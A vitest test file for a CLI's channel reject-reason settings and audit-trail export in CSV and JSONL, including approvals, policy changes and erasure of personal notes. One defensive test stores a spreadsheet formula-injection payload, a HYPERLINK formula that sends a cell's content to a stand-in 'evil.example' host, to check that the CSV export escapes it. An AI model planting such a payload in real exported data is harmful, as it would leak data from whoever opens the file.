// The CLI's side of issue 37: each channel's reject reasons (`channel reasons set|show`) and the
// audit trail (`audit export`), parsed back with a real CSV parser.
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDatabase, type Database, type ReviewRegion } from '@framedesk/db';
import { newId } from '@framedesk/domain';
import { exportAudit, REJECT_REASONS } from '@framedesk/review';
import { createTestDatabase, type TestDatabase } from '@framedesk/testing';
import { runCli } from './in-process';

const WORKBENCH_DOC = resolve(import.meta.dirname, '../../../docs/workbench.md');

let database: TestDatabase;
let env: Record<string, string>;
let db: Database;
const cli = (args: string[]) => runCli(args, env);

beforeAll(async () => {
  database = await createTestDatabase();
  env = { DATABASE_URL: database.url };
  expect((await cli(['channel', 'create', 'sport'])).code).toBe(0);
  db = createDatabase({ url: database.url, poolSize: 2 });
}, 90_000);
afterAll(async () => {
  await db?.close();
  await database?.drop();
});

describe('channel reasons', () => {
  it('shows the default list, sets the channel’s own, refuses bad lists, and goes back to the default', async () => {
    const shown = await cli(['channel', 'reasons', 'show', 'sport', '--json']);
    expect(shown.json()).toEqual({ channel: 'sport', reasons: [...REJECT_REASONS], default: true });

    const set = await cli(['channel', 'reasons', 'set', 'sport', 'Blurry', 'Wrong team']);
    expect([set.code, set.out]).toEqual([0, ['sport: its own reasons\n  Blurry\n  Wrong team']]);
    expect((await cli(['channel', 'reasons', 'show', 'sport', '--json'])).json()).toEqual({
      channel: 'sport',
      reasons: ['Blurry', 'Wrong team'],
      default: false,
    });

    expect((await cli(['channel', 'reasons', 'set', 'sport'])).code).toBe(2);
    const repeated = await cli(['channel', 'reasons', 'set', 'sport', 'Blurry', 'Blurry']);
    expect([repeated.code, repeated.err.join('\n')]).toEqual([2, expect.stringContaining('each reason is given once')]);
    expect((await cli(['channel', 'reasons', 'show', 'nowhere'])).code).toBe(2);

    expect((await cli(['channel', 'reasons', 'set', 'sport', '--default', '--json'])).json()).toMatchObject({
      default: true,
    });
    const events = await database.query(
      "SELECT action, actor, data FROM account_events WHERE action = 'reject_reasons_set' ORDER BY id",
    );
    expect(events).toEqual([
      {
        action: 'reject_reasons_set',
        actor: expect.stringMatching(/^cli/),
        data: { before: null, after: ['Blurry', 'Wrong team'] },
      },
      {
        action: 'reject_reasons_set',
        actor: expect.stringMatching(/^cli/),
        data: { before: ['Blurry', 'Wrong team'], after: null },
      },
    ]);
  });
});

const NOTE = 'Crop wider, please: the "logo" is cut off,\nand the caption is wrong';

describe('audit export', () => {
  const ids: string[] = [];
  let rita: string;

  beforeAll(async () => {
    expect((await cli(['channel', 'create', 'news'])).code).toBe(0);
    // Without --role or --channels the account is a reviewer of no channel: the output says what follows.
    const created = await cli(['reviewer', 'create', 'rita@example.com']);
    expect([created.code, created.out.join('\n')]).toEqual([
      0,
      'created reviewer rita@example.com (reviewer; channels: none)\n' +
        'rita@example.com will see no frames until it is given channels: ' +
        'reviewer channels add rita@example.com <channel>, or an admin on the People screen',
    ]);
    const admin = await cli(['reviewer', 'create', 'ada@example.com', '--role', 'admin']);
    expect(admin.out.join('\n')).not.toContain('will see no frames');
    expect((await cli(['reviewer', 'channels', 'add', 'rita@example.com', 'news'])).code).toBe(0);
    expect((await cli(['agent', 'create', 'auditbot', '--channel', 'news'])).code).toBe(0);
    expect((await cli(['agent', 'channels', 'add', 'auditbot', 'sport'])).code).toBe(0);
    expect((await cli(['channel', 'retention', 'set', 'news', '--rejected', '30d', '--yes'])).code).toBe(0);
    rita = (await db.repos.reviewers.findByEmail('rita@example.com'))!.id;
    const agent = (await db.repos.agents.findBySlug('auditbot'))!;
    const news = (await db.repos.channels.findBySlug('news'))!;
    for (const decision of ['rejected', 'promoted'] as const) {
      const id = newId('submission');
      ids.push(id);
      await db.repos.submissions.create(
        {
          id,
          status: 'received',
          mediaType: 'image',
          agentId: agent.id,
          channelId: news.id,
          date: '20261122',
          metadata: {},
          visibility: 'promotion_eligible',
        },
        { type: 'agent', id: agent.id },
      );
      for (const to of ['media_processing', 'needs_review'] as const)
        expect((await db.transition({ id, to, actor: { type: 'system' } })).ok).toBe(true);
      const rejected = decision === 'rejected';
      const result = await db.transition({
        id,
        to: decision,
        actor: { type: 'reviewer', id: rita },
        reason: rejected ? 'Low quality' : null,
        ...(rejected ? { data: { note: NOTE } } : {}),
      });
      expect(result.ok).toBe(true);
    }
  }, 60_000);

  it('--format csv parses back (a real CSV parser) to the trail in time order, the note with its comma, quote and newline', async () => {
    const res = await cli(['audit', 'export', '--format', 'csv']);
    expect(res.code).toBe(0);
    const rows = parse(res.out.join('\n'), { columns: true }) as Record<string, string>[];
    const transitions = rows.filter((r) => r['kind'] === 'transition');
    expect(transitions.map((r) => [r['subject'], r['who'], r['from'], r['to'], r['reason'], r['note']])).toEqual([
      [ids[0], 'agent:auditbot', '', 'received', '', ''],
      [ids[0], 'system', 'received', 'media_processing', '', ''],
      [ids[0], 'system', 'media_processing', 'needs_review', '', ''],
      [ids[0], 'rita@example.com', 'needs_review', 'rejected', 'Low quality', NOTE],
      [ids[1], 'agent:auditbot', '', 'received', '', ''],
      [ids[1], 'system', 'received', 'media_processing', '', ''],
      [ids[1], 'system', 'media_processing', 'needs_review', '', ''],
      [ids[1], 'rita@example.com', 'needs_review', 'promoted', '', ''],
    ]);
    const accounts = rows.filter((r) => r['kind'] === 'account').map((r) => [r['subject'], r['action'], r['channel']]);
    expect(accounts).toEqual(
      expect.arrayContaining([
        ['reviewer:rita@example.com', 'created', ''],
        ['reviewer:rita@example.com', 'channel_added', 'news'],
        ['agent:auditbot', 'channel_added', 'sport'],
        ['channel:news', 'retention_set', 'news'],
        ['channel:sport', 'reject_reasons_set', 'sport'],
      ]),
    );
    for (const r of rows) expect(r['who']).not.toBe('');
    const times = rows.map((r) => Date.parse(r['at']!));
    expect(times).toEqual([...times].sort((a, b) => a - b));
    // The columns, in the order docs/workbench.md gives them.
    const documented = /columns `([^`]+)`/.exec(readFileSync(WORKBENCH_DOC, 'utf8'))![1]!.split(/,\s*/);
    expect(Object.keys(rows[0]!)).toEqual(documented);
  });

  it('--format jsonl gives the same rows; --channel and --since/--until narrow them; small batches change nothing', async () => {
    const csv = parse((await cli(['audit', 'export'])).out.join('\n'), { columns: true }) as Record<string, string>[];
    const jsonl = (await cli(['audit', 'export', '--format', 'jsonl'])).out.map(
      (l) => JSON.parse(l) as Record<string, unknown>,
    );
    expect(jsonl.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, v ?? ''])))).toEqual(csv);

    const sport = (await cli(['audit', 'export', '--channel', 'sport', '--format', 'jsonl'])).out.map((l) =>
      JSON.parse(l),
    );
    expect(sport.map((r: { action: string }) => r.action)).toEqual([
      'reject_reasons_set',
      'reject_reasons_set',
      'channel_added',
    ]);
    const future = await cli(['audit', 'export', '--since', '2999-01-01', '--format', 'jsonl']);
    expect([future.code, future.out]).toEqual([0, []]);
    const past = await cli(['audit', 'export', '--until', '2000-01-01']);
    expect(past.out).toEqual(['at,kind,channel,subject,who,from,to,action,reason,note']);
    expect((await cli(['audit', 'export', '--format', 'xml'])).code).toBe(2);
    expect((await cli(['audit', 'export', '--since', 'yesterday'])).code).toBe(2);

    // Batches of 2 rows: the keyset continues exactly where each batch ended.
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    await exportAudit(db, { window: {}, format: 'jsonl', batchSize: 2 }, out);
    const batched = Buffer.concat(chunks)
      .toString('utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(batched).toEqual(jsonl);
  });

  it('lists review policy changes: who, and the old and new policy', async () => {
    const sport = (await db.repos.channels.findBySlug('sport'))!;
    const policy = { rules: [{ name: 'blank', when: 'signals.blank', action: 'reject', reason: 'Low quality' }] };
    await db.transaction((repos) => repos.policies.set(sport.id, policy, 'cli:auditor'));
    const rows = (await cli(['audit', 'export', '--channel', 'sport', '--format', 'jsonl'])).out.map(
      (l) => JSON.parse(l) as Record<string, unknown>,
    );
    const change = rows.find((r) => r['kind'] === 'policy');
    expect(change).toMatchObject({ channel: 'sport', who: 'cli:auditor', action: 'policy_set', from: null });
    expect(JSON.parse(String(change?.['to']))).toEqual(policy);
  });
});

describe('audit export is safe to open (issue 43, point 14)', () => {
  let agentId: string;
  let channelId: string;
  let rita: string;
  let ada: string;

  beforeAll(async () => {
    expect((await cli(['channel', 'create', 'safe'])).code).toBe(0);
    expect((await cli(['agent', 'create', 'safebot', '--channel', 'safe'])).code).toBe(0);
    agentId = (await db.repos.agents.findBySlug('safebot'))!.id;
    channelId = (await db.repos.channels.findBySlug('safe'))!.id;
    rita = (await db.repos.reviewers.findByEmail('rita@example.com'))!.id;
    ada = (await db.repos.reviewers.findByEmail('ada@example.com'))!.id;
  });

  /** A frame of safebot waiting for review, needing `approvals` reviewers' promotes. */
  async function waiting(approvals = 1): Promise<string> {
    const id = newId('submission');
    await db.repos.submissions.create(
      {
        id,
        status: 'received',
        mediaType: 'image',
        agentId,
        channelId,
        date: '20261122',
        metadata: { title: 'A frame' },
        visibility: 'promotion_eligible',
      },
      { type: 'agent', id: agentId },
    );
    expect((await db.transition({ id, to: 'media_processing', actor: { type: 'system' } })).ok).toBe(true);
    const patch = { approvalsRequired: approvals };
    expect((await db.transition({ id, to: 'needs_review', actor: { type: 'system' }, patch })).ok).toBe(true);
    return id;
  }

  const reject = (id: string, reason: string, note: string, regions: ReviewRegion[] = []) =>
    db.transition({
      id,
      to: 'rejected',
      actor: { type: 'reviewer', id: rita },
      reason,
      onlyFrom: ['needs_review'],
      data: { note, ...(regions.length > 0 ? { regions } : {}) },
      patch: {
        reviewDecision: 'rejected',
        reviewReason: reason,
        reviewerId: rita,
        reviewedAt: new Date(),
        reviewNote: note,
        ...(regions.length > 0 ? { reviewRegions: regions } : {}),
      },
    });

  const exported = async (format: 'csv' | 'jsonl') => {
    const res = await cli(['audit', 'export', '--channel', 'safe', '--format', format]);
    expect(res.code, res.err.join('\n')).toBe(0);
    return format === 'csv'
      ? (parse(res.out.join('\n'), { columns: true }) as Record<string, string>[])
      : res.out.map((l) => JSON.parse(l) as Record<string, string | null>);
  };

  it('escapes cells that begin with = + - @ in CSV (escape_formulas); JSON lines keep them as written', async () => {
    const id = await waiting();
    const note = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    expect((await reject(id, '@SUM(A1:A9)', note)).ok).toBe(true);
    const second = await waiting();
    expect((await reject(second, '+1', '-2+3')).ok).toBe(true);
    const csv = (await exported('csv')).filter((r) => r['to'] === 'rejected');
    expect(csv.map((r) => [r['reason'], r['note']])).toEqual([
      [`'@SUM(A1:A9)`, `'${note}`],
      [`'+1`, `'-2+3`],
    ]);
    const jsonl = (await exported('jsonl')).filter((r) => r['to'] === 'rejected');
    expect(jsonl.map((r) => [r['reason'], r['note']])).toEqual([
      ['@SUM(A1:A9)', note],
      ['+1', '-2+3'],
    ]);
  });

  it('lists the first approval of a two-approval frame: who, when, 1 of 2', async () => {
    const id = await waiting(2);
    expect(await db.repos.policies.approve(id, rita)).toEqual({ approvals: 1, required: 2 });
    const promoted = await db.transition({
      id,
      to: 'promoted',
      actor: { type: 'reviewer', id: ada },
      onlyFrom: ['needs_review'],
      patch: { reviewDecision: 'promoted', reviewerId: ada, reviewedAt: new Date() },
    });
    expect(promoted.ok).toBe(true);
    const [event] = await database.query<{ created_at: Date }>(
      "SELECT created_at FROM submission_events WHERE submission_id = $1 AND type = 'approval'",
      [id],
    );
    const rows = (await exported('csv')).filter((r) => r['subject'] === id && r['who'] !== 'agent:safebot');
    expect(rows.map((r) => [r['kind'], r['who'], r['at'], r['from'], r['to'], r['reason']])).toEqual([
      ['transition', 'system', expect.any(String), 'received', 'media_processing', ''],
      ['transition', 'system', expect.any(String), 'media_processing', 'needs_review', ''],
      ['approval', 'rita@example.com', event!.created_at.toISOString(), '', '', '1 of 2'],
      ['transition', 'ada@example.com', expect.any(String), 'needs_review', 'promoted', ''],
    ]);
  });

  it('media erase blanks the decision note, region labels and internal notes, in the rows and the export', async () => {
    const id = await waiting();
    const regions = [{ x: 0.1, y: 0.2, width: 0.3, height: 0.4, label: 'Jane Doe’s face' }];
    expect((await reject(id, 'Low quality', 'Jane Doe is in this frame', regions)).ok).toBe(true);
    await db.repos.feedback.addNote({ submissionId: id, reviewerId: rita, body: 'Jane Doe asked us to remove it' });

    const erased = await cli(['media', 'erase', '--submission', id, '--json']);
    expect(erased.code, erased.err.join('\n')).toBe(0);

    const [row] = await database.query<{ review_note: string | null; review_regions: unknown }>(
      'SELECT review_note, review_regions FROM submissions WHERE id = $1',
      [id],
    );
    expect(row).toEqual({ review_note: null, review_regions: [{ ...regions[0], label: '' }] });
    const events = await database.query<{ data: unknown }>(
      "SELECT data FROM submission_events WHERE submission_id = $1 AND to_status = 'rejected' AND type = 'transition'",
      [id],
    );
    expect(events).toEqual([{ data: { regions: [{ ...regions[0], label: '' }] } }]);
    const notes = await database.query<{ body: string }>('SELECT body FROM review_notes WHERE submission_id = $1', [
      id,
    ]);
    expect(notes).toEqual([{ body: '' }]);
    const rows = (await exported('jsonl')).filter((r) => r['subject'] === id);
    expect(JSON.stringify(rows)).not.toContain('Jane');
    expect(rows.find((r) => r['to'] === 'rejected')).toMatchObject({ reason: 'Low quality', note: null });
  });
});
